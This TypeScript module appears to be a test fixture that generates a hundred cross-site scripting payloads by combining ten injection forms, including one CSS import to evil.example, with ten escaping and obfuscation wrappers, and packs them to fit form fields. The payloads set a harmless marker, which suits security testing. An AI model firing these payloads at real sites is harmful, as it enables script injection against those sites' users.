/** Ten ways to run something, each in ten disguises: a hundred payloads. */
const ACTS: readonly string[] = [
  '<script>window.hit=1</script>',
  '<img src=x onerror=window.hit=1>',
  '<svg onload=window.hit=1>',
  '<a href="javascript:window.hit=1">x</a>',
  '[x](javascript:window.hit=1)',
  '![x](x" onerror="window.hit=1)',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<style>@import "https://evil.example?hit=1"</style>',
  '<https://a.example" onmouseover="window.hit=1>',
  '<details open ontoggle=window.hit=1>',
];
const DISGUISES: readonly ((act: string) => string)[] = [
  (act) => act,
  (act) => `"'>${act}`,
  (act) => `</textarea>${act}`,
  (act) => `</script>${act}`,
  (act) => `> ${act}`,
  (act) => `# ${act}`,
  (act) => `| ${act} | b |\n|---|---|\n| ${act} | 2 |`,
  (act) => `\`\`\`html\n${act}\n\`\`\``,
  (act) => `[fen]${act}[/fen]`,
  (act) => `${act.replaceAll('<', '&lt;').replaceAll('script', 'scr\u200bipt')}${act}`,
];
/** The plain ways first: where a field is written once, they are what it holds. */
export const PAYLOADS: readonly string[] = DISGUISES.flatMap((disguise) => ACTS.map((act) => disguise(act)));

export interface Packed {
  /** Texts of the field's size, none of whose payloads is cut. */
  readonly fitting: readonly string[];
  /** Texts of payloads that are longer than the field. */
  readonly longer: readonly string[];
}

/** Joins payloads into texts of at most so many characters; a longer payload stands alone. */
function joined(payloads: readonly string[], room: number, between: string): readonly string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + between.length + payload.length <= room)
      texts[texts.length - 1] = `${last}${between}${payload}`;
    else texts.push(payload);
  }
  return texts;
}

/** The hundred in texts for a field of so many characters and of one line or several. */
export function packed(room: number, hasLines: boolean): Packed {
  const payloads = hasLines ? PAYLOADS : PAYLOADS.map((payload) => payload.replaceAll('\n', ' '));
  return {
    fitting: joined(
      payloads.filter(({ length }) => length <= room),
      room,
      hasLines ? '\n\n' : ' ',
    ),
    longer: joined(
      payloads.filter(({ length }) => length > room),
      480,
      ' ',
    ),
  };
}
